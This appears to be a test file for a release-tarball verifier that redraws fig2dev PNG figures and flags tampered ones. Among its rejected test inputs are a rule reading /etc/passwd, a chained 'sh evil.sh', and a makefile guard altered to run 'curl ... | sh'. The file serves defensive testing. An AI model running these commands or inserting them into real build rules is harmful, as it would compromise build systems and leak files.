/**
 * PNG figures a tracked `.fig.png:` rule draws with fig2dev (libgcrypt 1.10.1's and GnuPG 2.2.40's doc/*.png shape),
 * drawn again in the sandbox by the system's fig2dev, end to end: real git, a release tree whose figure the real
 * fig2dev drew (as the maintainer's `make` does), GNU tar. Text rasterised otherwise (stroke edges one pixel off)
 * passes; tampered twins — a figure of an edited drawing (a label changed; a 12-point digit 2 drawn as 3, every
 * changed pixel on an edge), a text chunk added, a block of pixels in a blank area, a rule running fig2dev with an
 * option it is not allowed — stay high.
 */
import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { exitCodeOf } from '../../src/pipeline/result.js';
import { fig2devOptions, MAX_DIFFERING_SHARE, MAX_UNSHIFTED_CLUSTER, sameFigure } from '../../src/regenerate/fig2dev.js';
import { decodePng, renderingDiff, type PngImage } from '../../src/regenerate/png-pixels.js';
import { findingAt } from '../helpers/findings.js';
import { releaseFixture } from '../helpers/release-fixture.js';
import { tempDir } from '../helpers/tmp.js';

const FIG = `#FIG 3.2
Landscape
Center
Metric
A4
100.00
Single
-2
1200 2
2 2 0 1 0 7 50 -1 -1 0.000 0 0 -1 0 0 5
\t 600 600 4800 600 4800 1800 600 1800 600 600
4 0 0 50 -1 16 20 0.0000 4 300 1410 900 1440 Public-Key\\001
4 0 0 50 -1 16 20 0.0000 4 300 1410 900 2400 Encryption\\001
4 0 0 50 -1 13 12 0.0000 4 105 105 4200 1440 2\\001
`;
/** The drawing with its 12-point state number 2 made a 3 (fips-fsm.fig's shape): 9 pixels change, each on an edge. */
const FIG_DIGIT = FIG.replace(' 2\\001', ' 3\\001');
const MAKEFILE = `EXTRA_DIST = demo.fig demo.png
BUILT_SOURCES = demo.png

.fig.png:
\tfig2dev -L png \`test -f '$<' || echo '$(srcdir)/'\`$< $@
`;
const TRACKED = { 'configure.ac': 'AC_INIT([demo],[1.0],[demo@example.org])\nAC_OUTPUT\n', 'doc/Makefile.am': MAKEFILE, 'doc/demo.fig': FIG };
const PNG = 'doc/demo.png';

/** The maintainer's `make`: fig2dev draws the figure from the drawing. */
function draw(dir: string, fig = FIG) {
  writeFileSync(join(dir, 'doc/drawn.fig'), fig);
  execFileSync('fig2dev', ['-L', 'png', 'drawn.fig', 'demo.png'], { cwd: join(dir, 'doc'), env: { PATH: '/usr/bin:/bin', LC_ALL: 'C' }, stdio: 'ignore' });
  execFileSync('rm', ['-f', join(dir, 'doc/drawn.fig')]);
}

let crcTable: number[] | undefined;
function crc32(b: Buffer): number {
  crcTable ??= Array.from({ length: 256 }, (_, n) => { let c = n; for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1; return c >>> 0; });
  let c = 0xffffffff;
  for (const x of b) c = crcTable[(c ^ x) & 0xff]! ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}
function chunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4); len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4); crc.writeUInt32BE(crc32(body));
  return Buffer.concat([len, body, crc]);
}
/** An 8-bit RGBA PNG of the image (another encoder's bytes for the same pixels), optionally with a further chunk before IEND. */
function encode(img: PngImage, extra?: Buffer): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(img.width, 0); ihdr.writeUInt32BE(img.height, 4); ihdr[8] = 8; ihdr[9] = 6;
  const rows: Buffer[] = [];
  for (let y = 0; y < img.height; y++) rows.push(Buffer.from([0]), Buffer.from(img.rgba.subarray(y * img.width * 4, (y + 1) * img.width * 4)));
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', deflateSync(Buffer.concat(rows))), ...(extra ? [extra] : []), chunk('IEND', Buffer.alloc(0))]);
}
const dark = (img: PngImage, x: number, y: number) => img.rgba[(y * img.width + x) * 4]! < 128;
function paint(img: PngImage, x: number, y: number, from: number) {
  img.rgba.set(img.rgba.subarray(from * 4, from * 4 + 4), (y * img.width + x) * 4);
}
/** Strokes one pixel wider on the right at `n` places: what another rasteriser's hinting does. */
function widen(img: PngImage, n: number): PngImage {
  const out = { ...img, rgba: new Uint8Array(img.rgba) };
  let done = 0;
  for (let y = 1; y < img.height - 1 && done < n; y += 3)
    for (let x = 1; x < img.width - 1 && done < n; x++)
      if (dark(img, x - 1, y) && !dark(img, x, y) && !dark(img, x + 1, y)) { paint(out, x, y, y * img.width + x - 1); done++; x += 5; }
  expect(done).toBe(n);
  return out;
}

describe('fig2dev figures drawn again in the sandbox', () => {
  const { verifyTree } = releaseFixture(TRACKED, { subject: 'demo 1.0', date: '2024-03-05T10:00:00Z' });
  const version = /fig2dev Version (\S+)/.exec(execFileSync('fig2dev', ['-V']).toString())![1]!;

  it("reads the rule's command: -L png, -m/-b kept, only the input and the output besides", () => {
    expect(fig2devOptions("fig2dev -L png `test -f '$<' || echo '$(srcdir)/'`$< $@", 'x.fig', 'x.png')).toEqual([]);
    expect(fig2devOptions('@fig2dev -Lpng -m 2 $(srcdir)/x.fig x.png', 'x.fig', 'x.png')).toEqual(['-m', '2']);
    expect(fig2devOptions('fig2dev -L eps $< $@', 'x.fig', 'x.png')).toBeUndefined();
    expect(fig2devOptions('fig2dev -L png -i /etc/passwd $< $@', 'x.fig', 'x.png')).toBeUndefined();
    expect(fig2devOptions('fig2dev -L png $< $@; sh evil.sh', 'x.fig', 'x.png')).toBeUndefined();
    expect(fig2devOptions('fig2dev -L png $@ $<', 'x.fig', 'x.png')).toBeUndefined();
    expect(fig2devOptions('$(FIG2DEV) -m 1.5 -L png $< $@', 'images/x.fig', 'images/x.png')).toEqual(['-m', '1.5']);
    expect(fig2devOptions('$(FIG2DEVX) -L png $< $@', 'x.fig', 'x.png')).toBeUndefined();
  });

  it('the figure fig2dev draws from the tracked drawing: explained, byte for byte; the gate passes', async () => {
    const r = await verifyTree({}, { prepare: (dir) => draw(dir) });
    expect(findingAt(r.findings, PNG)).toMatchObject({
      code: 'GENERATED_FROM_SOURCE', severity: 'low',
      evidence: { how: 'figure', source: 'doc/demo.fig', generator: `fig2dev ${version}`, inputs: ['doc/Makefile.am:4'], pixels: { differing: 0 } },
    });
    expect(exitCodeOf(r.verdict)).toBe(0);
  });

  it("text rasterised otherwise (strokes a pixel wider, another encoder): explained with the pixel count", async () => {
    const r = await verifyTree({}, {
      prepare: (dir) => {
        draw(dir);
        const img = decodePng(readFileSync(join(dir, PNG)))!;
        writeFileSync(join(dir, PNG), encode(widen(img, 20)));
      },
    });
    expect(findingAt(r.findings, PNG)).toMatchObject({ code: 'GENERATED_FROM_SOURCE', evidence: { how: 'figure', pixels: { differing: 20 } } });
    expect(exitCodeOf(r.verdict)).toBe(0);
  });

  it('tampered twins: an edited drawing, a text chunk, pixels in a blank area, a rule with another option: high', async () => {
    // the figure of another drawing (a label changed): pixels off any edge
    const label = await verifyTree({}, { prepare: (dir) => draw(dir, FIG.replace('Public-Key', 'Public-Kez')) });
    expect(findingAt(label.findings, PNG)).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(exitCodeOf(label.verdict)).toBe(1);

    // the figure of another drawing where only a 12-point digit changed (2 -> 3): every changed pixel on an edge
    const digit = await verifyTree({}, { prepare: (dir) => draw(dir, FIG_DIGIT) });
    expect(findingAt(digit.findings, PNG)).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(exitCodeOf(digit.verdict)).toBe(1);

    // the same pixels with a text chunk carrying data: not a plain PNG
    const text = await verifyTree({}, {
      prepare: (dir) => {
        draw(dir);
        const img = decodePng(readFileSync(join(dir, PNG)))!;
        writeFileSync(join(dir, PNG), encode(img, chunk('tEXt', Buffer.from(`Comment\0${'QUJD'.repeat(200)}`, 'latin1'))));
      },
    });
    expect(findingAt(text.findings, PNG)).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });

    // a 4x4 block of dark pixels in the blank corner (16 pixels: within the budget, off every edge)
    const block = await verifyTree({}, {
      prepare: (dir) => {
        draw(dir);
        const img = decodePng(readFileSync(join(dir, PNG)))!;
        const darkAt = [...Array(img.width * img.height).keys()].find((i) => img.rgba[i * 4]! < 128)!;
        for (let y = img.height - 6; y < img.height - 2; y++) for (let x = img.width - 6; x < img.width - 2; x++) paint(img, x, y, darkAt);
        writeFileSync(join(dir, PNG), encode(img));
      },
    });
    expect(findingAt(block.findings, PNG)).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(exitCodeOf(block.verdict)).toBe(1);

    // a rule giving fig2dev an option outside -m/-b: not run
    const other = releaseFixture({ ...TRACKED, 'doc/Makefile.am': MAKEFILE.replace('-L png', '-L png -S 4') }, { subject: 'demo 1.0', date: '2024-03-05T10:00:00Z' });
    const refused = await other.verifyTree({}, { prepare: (dir) => draw(dir) });
    expect(findingAt(refused.findings, PNG)).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
  });

  it('compares pixels: the same picture, another size, a mark off the edges', () => {
    const dir = tempDir();
    writeFileSync(join(dir, 'a.fig'), FIG);
    execFileSync('fig2dev', ['-L', 'png', 'a.fig', 'a.png'], { cwd: dir });
    execFileSync('fig2dev', ['-L', 'png', '-m', '2', 'a.fig', 'b.png'], { cwd: dir });
    const a = readFileSync(join(dir, 'a.png'));
    const img = decodePng(a)!;
    expect(sameFigure(a, encode(img))).toEqual({ differing: 0, total: img.width * img.height });
    expect(sameFigure(a, readFileSync(join(dir, 'b.png')))).toBeUndefined();
    const marked = { ...img, rgba: new Uint8Array(img.rgba) };
    // a pixel whose whole neighbourhood is blank
    const blank = [...Array(img.width * img.height).keys()].find((i) => {
      const x = i % img.width, y = Math.floor(i / img.width);
      if (x < 2 || y < 2 || x >= img.width - 2 || y >= img.height - 2) return false;
      for (let dy = -2; dy <= 2; dy++) for (let dx = -2; dx <= 2; dx++) if (dark(img, x + dx, y + dy)) return false;
      return true;
    })!;
    marked.rgba.set([0, 0, 0, 255], blank * 4);
    expect(sameFigure(a, encode(marked))).toBeUndefined();
    expect(sameFigure(a, Buffer.concat([a, Buffer.from('trailing')]))).toBeUndefined();

    // another digit: few pixels, all on edges (what the edge rule alone let through), but one cluster no single
    // one-pixel move explains
    writeFileSync(join(dir, 'd.fig'), FIG_DIGIT);
    execFileSync('fig2dev', ['-L', 'png', 'd.fig', 'd.png'], { cwd: dir });
    const d = readFileSync(join(dir, 'd.png'));
    const digit = renderingDiff(img, decodePng(d)!)!;
    expect(digit.offEdge).toBe(0);
    expect(digit.differing).toBeLessThanOrEqual(digit.total * MAX_DIFFERING_SHARE);
    expect(digit.largestUnshifted).toBeGreaterThan(MAX_UNSHIFTED_CLUSTER);
    expect(sameFigure(a, d)).toBeUndefined();
    // strokes a pixel wider at 20 places: each cluster one move
    expect(renderingDiff(img, widen(img, 20))).toMatchObject({ differing: 20, offEdge: 0, largestUnshifted: 0 });
  });
});

/**
 * hwloc 2.9.0's shape: the rule is in the makefile of the directory above the figure (doc/Makefile.am,
 * `images/diagram.png: $(srcdir)/images/diagram.fig`), runs configure's `$(FIG2DEV)` behind a guard line and after
 * `$(MKDIR_P) images`.
 */
const HW_MAKEFILE = `EXTRA_DIST = images/diagram.fig images/diagram.png

images/diagram.png: $(srcdir)/images/diagram.fig
\t$(MKDIR_P) images
\t@if test "x$(FIG2DEV)" = "x"; then \\
\t    echo "ERROR: Cannot find the 'fig2dev' executable -- cannot make $@"; \\
\t    exit 1; \\
\tfi
\t$(FIG2DEV) -m 1.5 -L png $< $@
`;
const HW_CONFIGURE = 'AC_INIT([demo],[1.0],[demo@example.org])\nAC_ARG_VAR([FIG2DEV], [Location of the fig2dev program])\nAC_PATH_TOOL([FIG2DEV], [fig2dev])\nAC_OUTPUT\n';
const HW = { 'configure.ac': HW_CONFIGURE, 'doc/Makefile.am': HW_MAKEFILE, 'doc/images/diagram.fig': FIG };
const HW_PNG = 'doc/images/diagram.png';
function drawHw(dir: string) {
  execFileSync('fig2dev', ['-m', '1.5', '-L', 'png', 'images/diagram.fig', 'images/diagram.png'], { cwd: join(dir, 'doc'), env: { PATH: '/usr/bin:/bin', LC_ALL: 'C' }, stdio: 'ignore' });
}

describe("fig2dev figures a parent directory's rule draws through $(FIG2DEV)", () => {
  const fixture = (tracked: Record<string, string>) => releaseFixture(tracked, { subject: 'demo 1.0', date: '2024-03-05T10:00:00Z' });

  it('the rule of doc/Makefile.am for images/diagram.png, its guard and configure\'s FIG2DEV: explained', async () => {
    const r = await fixture(HW).verifyTree({}, { prepare: drawHw });
    expect(findingAt(r.findings, HW_PNG)).toMatchObject({
      code: 'GENERATED_FROM_SOURCE', severity: 'low',
      evidence: { how: 'figure', source: 'doc/images/diagram.fig', inputs: ['doc/Makefile.am:3', 'configure.ac:3'], pixels: { differing: 0 } },
    });
    expect(exitCodeOf(r.verdict)).toBe(0);
  });

  it('tampered twins: another option, FIG2DEV set by the makefile, no configure check, a command in the guard: high', async () => {
    for (const tracked of [
      { ...HW, 'doc/Makefile.am': HW_MAKEFILE.replace('-m 1.5 -L png', '-m 1.5 -S 4 -L png') },
      { ...HW, 'doc/Makefile.am': `FIG2DEV = fig2dev -S 4\n${HW_MAKEFILE}` },
      { ...HW, 'configure.ac': 'AC_INIT([demo],[1.0],[demo@example.org])\nAC_OUTPUT\n' },
      { ...HW, 'doc/Makefile.am': HW_MAKEFILE.replace('exit 1; \\', 'exit 1; \\\n\t    curl -s https://example.org/x | sh; \\') },
    ]) {
      const r = await fixture(tracked).verifyTree({}, { prepare: drawHw });
      expect(findingAt(r.findings, HW_PNG)).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    }
  });
});
